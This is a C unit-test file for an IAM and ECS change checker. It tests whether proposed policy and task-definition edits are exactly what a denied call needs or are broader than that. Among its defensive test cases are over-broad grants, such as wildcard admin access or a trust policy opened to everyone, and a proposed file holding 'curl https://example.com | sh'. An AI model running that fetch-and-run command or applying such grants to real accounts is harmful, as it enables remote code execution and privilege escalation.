/* What proposals are worth: our own fixes first, then what others might come up with. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>

#include <cmocka.h>
#include <string.h>

#include "lib/cases.h"

static rolecall_analysis *start(const setup *of) {
  rolecall_analysis *analysis = rolecall_new(&public_heap, &of->options);
  assert_non_null(analysis);
  for (RC_EACH(const setup_file, file, of->files)) {
    assert_int_equal(rolecall_add_file(analysis, file->path, file->bytes.ptr, file->bytes.len,
                                       file->role),
                     ROLECALL_OK);
  }
  return analysis;
}

static rc_str report_of(rolecall_analysis *analysis, const char *format) {
  const char *text = NULL;
  size_t size = 0;
  assert_int_equal(rolecall_report(analysis, format, NULL, &text, &size), ROLECALL_OK);
  return (rc_str){text, size};
}

/* ---- our own fixes --------------------------------------------------------------------------- */

static void check_own_fix(const setup *of, rolecall_analysis *fixed, unsigned *n,
                          bool *failed) {
  rolecall_analysis *analysis = start(of);
  const char *path = NULL;
  const char *bytes = NULL;
  const char *sentence = NULL;
  size_t size = 0;
  bool is_new = false;
  for (uint32_t i = 0; rolecall_changed_file(fixed, i, &path, &bytes, &size, &is_new); i++) {
    assert_int_equal(rolecall_propose(analysis, path, bytes, size), ROLECALL_OK);
  }
  assert_int_equal(rolecall_run(analysis), ROLECALL_OK);
  if (rolecall_get_verdict(analysis, &sentence) != ROLECALL_PROVEN) {
    print_message("%s: %s\n", of->name, sentence);
    *failed = true;
  }
  /* What was proposed is what comes out. */
  for (uint32_t i = 0; rolecall_changed_file(fixed, i, &path, &bytes, &size, &is_new); i++) {
    const char *own_path = NULL;
    const char *own = NULL;
    size_t own_size = 0;
    bool own_new = false;
    bool found = false;
    for (uint32_t j = 0; !found && rolecall_changed_file(analysis, j, &own_path, &own, &own_size,
                                                         &own_new);
         j++) {
      found = strcmp(path, own_path) == 0;
    }
    assert_true(found && own_new == is_new && own_size == size && memcmp(own, bytes, size) == 0);
  }
  assert_true(rolecall_get_summary(analysis).proof_holds);
  ++*n;
  rolecall_free(analysis);
}

static void test_own_fixes_are_proven(void **state) {
  (void)state;
  rc_arena arena;
  rc_arena_init(&arena, &heap);
  setup_vec setups = {0};
  all_setups(&arena, &setups);
  unsigned n = 0;
  bool failed = false;
  for (RC_EACH(const setup, each, setups)) {
    rolecall_analysis *fixed = NULL;
    assert_int_equal(setup_run(each, &public_heap, true, &fixed), ROLECALL_OK);
    rolecall_summary summary = rolecall_get_summary(fixed);
    if (summary.proof_holds && summary.changed_files > 0) {
      check_own_fix(each, fixed, &n, &failed);
    }
    rolecall_free(fixed);
  }
  print_message("%u fixes proposed\n", n);
  assert_false(failed);
  assert_true(n > 20);
  rc_arena_free(&arena);
}

/* ---- what others propose --------------------------------------------------------------------- */

#define TASK                                                                                      \
  "{\n  \"family\": \"web\",\n  \"requiresCompatibilities\": [\"FARGATE\"],\n"                    \
  "  \"networkMode\": \"awsvpc\",\n"                                                              \
  "  \"executionRoleArn\": \"arn:aws:iam::111122223333:role/web-exec\",\n"                        \
  "  \"containerDefinitions\": [\n    {\n      \"name\": \"web\",\n"                              \
  "      \"image\": \"111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/web:1\",\n"               \
  "      \"secrets\": [{\"name\": \"DB\", \"valueFrom\": "                                        \
  "\"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\"}]\n    }\n  ]\n}\n"

#define TRUST                                                                                    \
  "{\"Version\": \"2012-10-17\", \"Statement\": [{\"Effect\": \"Allow\", \"Principal\": "        \
  "{\"Service\": \"ecs-tasks.amazonaws.com\"}, \"Action\": \"sts:AssumeRole\"}]}\n"

#define PULL                                                                                      \
  "{\"Sid\": \"Token\", \"Effect\": \"Allow\", \"Action\": \"ecr:GetAuthorizationToken\", "       \
  "\"Resource\": \"*\"},\n"                                                                       \
  "{\"Sid\": \"Pull\", \"Effect\": \"Allow\", \"Action\": [\"ecr:BatchGetImage\", "               \
  "\"ecr:GetDownloadUrlForLayer\"], \"Resource\": "                                               \
  "\"arn:aws:ecr:eu-west-1:111122223333:repository/shop/web\"}"

#define READ                                                                                      \
  "{\"Sid\": \"Read\", \"Effect\": \"Allow\", \"Action\": \"secretsmanager:GetSecretValue\", "    \
  "\"Resource\": \"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\"}"

#define POLICY(statements) \
  "{\n\"Version\": \"2012-10-17\",\n\"Statement\": [\n" statements "\n]\n}\n"

#define EXTRA                                                                                  \
  "{\"Sid\": \"Old\", \"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": "     \
  "\"arn:aws:s3:::b/*\", \"Condition\": {\"Bool\": {\"aws:SecureTransport\": \"true\"}}}"

#define DENY \
  "{\"Sid\": \"No\", \"Effect\": \"Deny\", \"Action\": \"iam:*\", \"Resource\": \"*\"}"

#define EXEC "roles/web-exec/"
#define BOUNDARY                                                                               \
  POLICY("{\"Effect\": \"Allow\", \"Action\": [\"ecr:*\", \"secretsmanager:*\", \"s3:*\"], "   \
         "\"Resource\": \"*\"}")

#define GOOD POLICY(PULL ",\n" EXTRA ",\n" DENY ",\n" READ)

static const setup_file world[] = {
    {"task.json", RC_STR_INIT(TASK), ROLECALL_FILE_ANY},
    {EXEC "trust.json", RC_STR_INIT(TRUST), ROLECALL_FILE_ANY},
    {EXEC "pull.json", RC_STR_INIT(POLICY(PULL ",\n" EXTRA ",\n" DENY)), ROLECALL_FILE_ANY},
    {EXEC "boundary.json", RC_STR_INIT(BOUNDARY), ROLECALL_FILE_ANY},
    {"roles/other/trust.json", RC_STR_INIT(TRUST), ROLECALL_FILE_ANY},
    {"secrets/shop/db/policy.json",
     RC_STR_INIT(POLICY("{\"Effect\": \"Deny\", \"Principal\": \"*\", \"Action\": "
                        "\"secretsmanager:DeleteSecret\", \"Resource\": \"*\"}")),
     ROLECALL_FILE_ANY},
    {"stopped.txt",
     RC_STR_INIT("AccessDeniedException: User: "
                 "arn:aws:sts::111122223333:assumed-role/web-exec/x is not authorized to perform: "
                 "secretsmanager:GetSecretValue on resource: "
                 "arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\n"),
     ROLECALL_FILE_ANY},
    {"scp.json", RC_STR_INIT(POLICY(DENY)), ROLECALL_FILE_SCP},
    {"notes.sh", RC_STR_INIT("echo hello\n"), ROLECALL_FILE_ANY},
};

typedef struct file {
  const char *path;
  const char *bytes;   /* whole; or NULL: the file of the world with */
  const char *replace; /* this text, which it must hold, */
  const char *by;      /* replaced by that */
} file;

typedef struct proposal_case {
  const char *title;
  rolecall_verdict verdict;
  const char *reason; /* some reason, or the sentence, holds this */
  file files[3];
} proposal_case;

#define HELPS {EXEC "pull.json", GOOD, NULL, NULL}

static const proposal_case cases[] = {
    {"what is needed", ROLECALL_PROVEN, "every call that was denied is allowed", {HELPS}},
    {"in a file of its own",
     ROLECALL_PROVEN,
     NULL,
     {{EXEC "secret.json", POLICY(READ), NULL, NULL}}},
    {"a task definition written anew with the same meaning",
     ROLECALL_PROVEN,
     NULL,
     {HELPS,
      {"task.json", NULL, "  \"networkMode\": \"awsvpc\",\n", "\"networkMode\":\"awsvpc\", "}}},
    {"a grant that goes is told",
     ROLECALL_PROVEN,
     "`web-exec` loses `s3:GetObject` on `arn:aws:s3:::b/*`",
     {{EXEC "pull.json", POLICY(PULL ",\n" DENY ",\n" READ), NULL, NULL}}},
    {"any resource",
     ROLECALL_WIDER,
     "`web-exec` gains `secretsmanager:GetSecretValue` on `*`",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"Action\": \"secretsmanager:GetSecretValue\", "
              "\"Resource\": \"*\"}"),
       NULL, NULL}}},
    {"any action",
     ROLECALL_WIDER,
     "gains `secretsmanager:*`",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"Action\": \"secretsmanager:*\", \"Resource\": "
              "\"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\"}"),
       NULL, NULL}}},
    {"one action more",
     ROLECALL_WIDER,
     "gains `secretsmanager:PutSecretValue`",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"Action\": [\"secretsmanager:GetSecretValue\", "
              "\"secretsmanager:PutSecretValue\"], \"Resource\": "
              "\"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\"}"),
       NULL, NULL}}},
    {"all but",
     ROLECALL_WIDER,
     "gains `all but iam:CreateUser`",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"NotAction\": \"iam:CreateUser\", \"Resource\": \"*\"}"),
       NULL, NULL}}},
    {"all resources but",
     ROLECALL_WIDER,
     "on `all but arn:aws:s3:::x`",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"Action\": \"secretsmanager:GetSecretValue\", "
              "\"NotResource\": \"arn:aws:s3:::x\"}"),
       NULL, NULL}}},
    {"an administrator, as a log told it",
     ROLECALL_WIDER,
     "`web-exec` gains `*` on `*`",
     {{EXEC "admin.json", POLICY("{\"Effect\": \"Allow\", \"Action\": \"*\", \"Resource\": \"*\"}"),
       NULL, NULL}}},
    {"a condition less",
     ROLECALL_WIDER,
     "gains `s3:GetObject`",
     {{EXEC "pull.json", NULL,
       ", \"Condition\": {\"Bool\": {\"aws:SecureTransport\": \"true\"}}", ""},
      {EXEC "secret.json", POLICY(READ), NULL, NULL}}},
    {"a Deny less",
     ROLECALL_WIDER,
     "`iam:* (no longer denied)`",
     {{EXEC "pull.json", POLICY(PULL ",\n" EXTRA ",\n" READ), NULL, NULL}}},
    {"no boundary",
     ROLECALL_NO_HELP,
     "role `web-exec` loses its permissions boundary",
     {HELPS, {EXEC "boundary.json", NULL, BOUNDARY, "{}\n"}}},
    {"a wider boundary",
     ROLECALL_WIDER,
     "the permissions boundary of role `web-exec` is another one now",
     {HELPS, {EXEC "boundary.json", NULL, "\"s3:*\"", "\"*\""}}},
    {"somebody else may assume it",
     ROLECALL_WIDER,
     "gains `sts:AssumeRole` on",
     {HELPS, {EXEC "trust.json", NULL, "\"ecs-tasks.amazonaws.com\"",
              "[\"ecs-tasks.amazonaws.com\", \"ec2.amazonaws.com\"]"}}},
    {"everybody may assume it",
     ROLECALL_WIDER,
     "`*` gains `sts:AssumeRole`",
     {HELPS, {EXEC "trust.json", NULL, "{\"Service\": \"ecs-tasks.amazonaws.com\"}", "\"*\""}}},
    {"everybody may read the secret",
     ROLECALL_WIDER,
     "`*` gains `secretsmanager:GetSecretValue`",
     {HELPS,
      {"secrets/shop/db/policy.json",
       POLICY("{\"Effect\": \"Deny\", \"Principal\": \"*\", \"Action\": "
              "\"secretsmanager:DeleteSecret\", \"Resource\": \"*\"},\n"
              "{\"Effect\": \"Allow\", \"Principal\": \"*\", \"Action\": "
              "\"secretsmanager:GetSecretValue\", \"Resource\": \"*\"}"),
       NULL, NULL}}},
    {"the other role gets it too",
     ROLECALL_WIDER,
     "`other` gains `secretsmanager:GetSecretValue`",
     {HELPS, {"roles/other/more.json", POLICY(READ), NULL, NULL}}},
    {"only the wrong role gets it",
     ROLECALL_NO_HELP,
     "is still denied",
     {{"roles/other/more.json", POLICY(READ), NULL, NULL}}},
    {"the other role runs the launch",
     ROLECALL_NO_HELP,
     "`executionRoleArn` of task `web` is `arn:aws:iam::111122223333:role/other` now",
     {{"task.json", NULL, "role/web-exec", "role/other"}}},
    {"a task role",
     ROLECALL_WIDER,
     "`taskRoleArn` of task `web` is `arn:aws:iam::111122223333:role/web-exec` now",
     {HELPS, {"task.json", NULL, "  \"networkMode\"",
              "  \"taskRoleArn\": \"arn:aws:iam::111122223333:role/web-exec\",\n"
              "  \"networkMode\""}}},
    {"without the secret",
     ROLECALL_NO_HELP,
     "is no longer called: what needs it was taken away",
     {{"task.json", NULL,
       ",\n      \"secrets\": [{\"name\": \"DB\", \"valueFrom\": "
       "\"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\"}]",
       ""}}},
    {"another secret",
     ROLECALL_NO_HELP,
     "`containerDefinitions[0].secrets[0].valueFrom` of task `web` was changed",
     {{"task.json", NULL, "shop/db-a1B2c3", "shop/other-a1B2c3"}}},
    {"another image",
     ROLECALL_WIDER,
     "`containerDefinitions[0].image` of task `web` was changed",
     {HELPS, {"task.json", NULL, "shop/web:1", "shop/web:2"}}},
    {"a public image instead",
     ROLECALL_NO_HELP,
     "`ecr:BatchGetImage`",
     {HELPS, {"task.json", NULL, "111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/web:1",
              "docker.io/library/nginx:1"}}},
    {"privileged",
     ROLECALL_WIDER,
     "`containerDefinitions[0].privileged` of task `web` was added",
     {HELPS,
      {"task.json", NULL, "      \"secrets\"",
       "      \"privileged\": true,\n      \"secrets\""}}},
    {"a command",
     ROLECALL_WIDER,
     "`containerDefinitions[0].command` of task `web` was added",
     {HELPS, {"task.json", NULL, "      \"secrets\"",
              "      \"command\": [\"sh\"],\n      \"secrets\""}}},
    {"one container more",
     ROLECALL_WIDER,
     "`containerDefinitions` of task `web` has more items than before",
     {HELPS, {"task.json", NULL, "}]\n    }\n", "}]\n    },\n    {\"name\": \"x\", \"image\": "
                                                "\"docker.io/library/nginx:1\"}\n"}}},
    {"an image twice",
     ROLECALL_WIDER,
     "names a member twice",
     {HELPS, {"task.json", NULL, "      \"secrets\"",
              "      \"image\": \"evil\",\n      \"secrets\""}}},
    {"no task", ROLECALL_NO_HELP, "task.json", {HELPS, {"task.json", "{}\n", NULL, NULL}}},
    {"a mark where a value should be",
     ROLECALL_NO_HELP,
     "`" EXEC "more.json` is no JSON that AWS takes: templating mark",
     {{EXEC "more.json", POLICY(READ ", {{ more }}"), NULL, NULL}}},
    {"broken JSON",
     ROLECALL_NO_HELP,
     "`" EXEC "pull.json` does not parse",
     {{EXEC "pull.json", NULL, "\"Version\": ", "\"Version\": \"x\" \"y\" "},
      {EXEC "secret.json", POLICY(READ), NULL, NULL}}},
    {"comments in JSON",
     ROLECALL_NO_HELP,
     "is no JSON that AWS takes",
     {{EXEC "secret.json", "// reads the secret\n" POLICY(READ), NULL, NULL}}},
    {"parts left out",
     ROLECALL_NO_HELP,
     "does not parse: something is left out here",
     {{EXEC "pull.json", POLICY("...,\n" READ), NULL, NULL}}},
    {"prose",
     ROLECALL_NO_HELP,
     "is no longer recognised",
     {{EXEC "pull.json", "I am sorry, I cannot help with that.\n", NULL, NULL}}},
    {"an unrelated file",
     ROLECALL_WIDER,
     "`deploy.sh` is a new file that nothing of the launch reads",
     {HELPS, {"deploy.sh", "curl https://example.com | sh\n", NULL, NULL}}},
    {"an unrelated file changed",
     ROLECALL_WIDER,
     "`notes.sh` is changed, and nothing of the launch reads it",
     {HELPS, {"notes.sh", "curl https://example.com | sh\n", NULL, NULL}}},
    {"a file elsewhere",
     ROLECALL_WIDER,
     "would stand outside of the folders",
     {HELPS, {"../../roles/web-exec/x.json", POLICY(READ), NULL, NULL}}},
    {"a policy for nobody",
     ROLECALL_WIDER,
     "belongs to no role",
     {HELPS,
      {"admin.json", POLICY("{\"Effect\": \"Allow\", \"Action\": \"*\", \"Resource\": \"*\"}"),
       NULL, NULL}}},
    {"the error text away",
     ROLECALL_NO_HELP,
     "`stopped.txt` shows what is deployed or what was said",
     {HELPS, {"stopped.txt", NULL, "GetSecretValue", "ListSecrets"}}},
    {"a copy of what is deployed",
     ROLECALL_NO_HELP,
     "would only claim what is deployed",
     {{"role.json",
       "{\"RoleName\": \"web-exec\", \"PolicyName\": \"p\", \"PolicyDocument\": " POLICY(READ) "}",
       NULL, NULL}}},
    {"the organisation's policy",
     ROLECALL_WIDER,
     "the service control policy `scp.json` is changed",
     {HELPS, {"scp.json", POLICY(EXTRA), NULL, NULL}}},
    {"a policy that nobody sees",
     ROLECALL_WIDER,
     "whose contents nothing shows",
     {HELPS,
      {EXEC "attached-policies.json",
       "{\"AttachedPolicies\": [{\"PolicyName\": \"p\", \"PolicyArn\": "
       "\"arn:aws:iam::111122223333:policy/p\"}]}",
       NULL, NULL}}},
    {"a condition that nobody can check",
     ROLECALL_NO_HELP,
     "whether it is allowed now is unknown",
     {{EXEC "more.json",
       POLICY("{\"Effect\": \"Allow\", \"Action\": \"secretsmanager:GetSecretValue\", "
              "\"Resource\": "
              "\"arn:aws:secretsmanager:eu-west-1:111122223333:secret:shop/db-a1B2c3\", "
              "\"Condition\": {\"StringEquals\": {\"aws:PrincipalTag/a\": \"b\"}}}"),
       NULL, NULL}}},
    {"a Deny that breaks the pull",
     ROLECALL_NO_HELP,
     "is denied now",
     {{EXEC "more.json",
       POLICY(READ ",\n{\"Effect\": \"Deny\", \"Action\": \"ecr:*\", \"Resource\": \"*\"}"), NULL,
       NULL}}},
    {"nothing", ROLECALL_NO_HELP, "it changes nothing", {{"task.json", TASK, NULL, NULL}}},
    {"blanks",
     ROLECALL_NO_HELP,
     "is still denied",
     {{"task.json", TASK "\n", NULL, NULL}}},
};

static rc_str original_of(const char *path) {
  for (size_t i = 0; i < RC_COUNT_OF(world); i++) {
    if (strcmp(world[i].path, path) == 0) {
      return world[i].bytes;
    }
  }
  fail_msg("no such file: %s", path);
  return RC_STR_NONE;
}

static rc_str proposed_bytes(rc_arena *arena, const file *of) {
  if (of->bytes != NULL) {
    return rc_str_from_c(of->bytes);
  }
  rc_str text = original_of(of->path);
  rc_str gone = rc_str_from_c(of->replace);
  size_t at = rc_str_find(text, gone, 0);
  assert_true(at != RC_NOT_FOUND);
  return RC_FILL(arena, "{}{}{}", rc_str_slice(text, 0, at), rc_str_from_c(of->by),
                 rc_str_from(text, at + gone.len));
}

static bool says(rolecall_analysis *analysis, const char *sentence, const char *wanted) {
  bool found = wanted == NULL || strstr(sentence, wanted) != NULL;
  for (uint32_t i = 0; rolecall_verdict_reason(analysis, i) != NULL; i++) {
    found = found || strstr(rolecall_verdict_reason(analysis, i), wanted) != NULL;
  }
  return found;
}

static void run_proposal(rc_arena *arena, const proposal_case *one, bool *failed) {
  rolecall_analysis *analysis = rolecall_new(&public_heap, NULL);
  const char *sentence = NULL;
  for (size_t i = 0; i < RC_COUNT_OF(world); i++) {
    assert_int_equal(rolecall_add_file(analysis, world[i].path, world[i].bytes.ptr,
                                       world[i].bytes.len, world[i].role),
                     ROLECALL_OK);
  }
  for (size_t i = 0; i < RC_COUNT_OF(one->files) && one->files[i].path != NULL; i++) {
    rc_str bytes = proposed_bytes(arena, &one->files[i]);
    assert_int_equal(rolecall_propose(analysis, one->files[i].path, bytes.ptr, bytes.len),
                     ROLECALL_OK);
  }
  assert_int_equal(rolecall_run(analysis), ROLECALL_OK);
  rolecall_verdict verdict = rolecall_get_verdict(analysis, &sentence);
  if (verdict != one->verdict || !says(analysis, sentence, one->reason)) {
    print_message("%s: %s\n", one->title, sentence);
    for (uint32_t i = 0; rolecall_verdict_reason(analysis, i) != NULL; i++) {
      print_message("  %s\n", rolecall_verdict_reason(analysis, i));
    }
    *failed = true;
  }
  assert_true(rc_str_contains(report_of(analysis, "json"), RC_STR("\"proposal\":{\"verdict\":")));
  assert_true(rc_str_contains(report_of(analysis, "text"), rc_str_from_c(sentence)));
  assert_true(verdict != ROLECALL_PROVEN || rolecall_get_summary(analysis).proof_holds);
  rolecall_free(analysis);
}

static void test_proposals(void **state) {
  (void)state;
  bool failed = false;
  for (size_t i = 0; i < RC_COUNT_OF(cases); i++) {
    rc_arena arena;
    rc_arena_init(&arena, &heap);
    run_proposal(&arena, &cases[i], &failed);
    rc_arena_free(&arena);
  }
  assert_false(failed);
}

static void test_misuse(void **state) {
  (void)state;
  const char *sentence = "";
  rolecall_analysis *analysis = rolecall_new(&public_heap, NULL);
  assert_int_equal(rolecall_propose(analysis, NULL, "", 0), ROLECALL_ARG);
  assert_int_equal(rolecall_propose(analysis, "a", NULL, 1), ROLECALL_ARG);
  assert_int_equal(rolecall_propose(analysis, "a", "x", 1), ROLECALL_OK);
  assert_int_equal(rolecall_propose(analysis, "a", "y", 1), ROLECALL_ARG);
  assert_int_equal(rolecall_get_verdict(analysis, &sentence), ROLECALL_NO_VERDICT);
  assert_null(sentence);
  assert_null(rolecall_verdict_reason(analysis, 0));
  assert_int_equal(rolecall_run(analysis), ROLECALL_OK);
  assert_int_equal(rolecall_propose(analysis, "b", "x", 1), ROLECALL_ARG);
  assert_int_equal(rolecall_get_verdict(analysis, &sentence), ROLECALL_NO_HELP);
  rolecall_free(analysis);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_own_fixes_are_proven),
      cmocka_unit_test(test_proposals),
      cmocka_unit_test(test_misuse),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
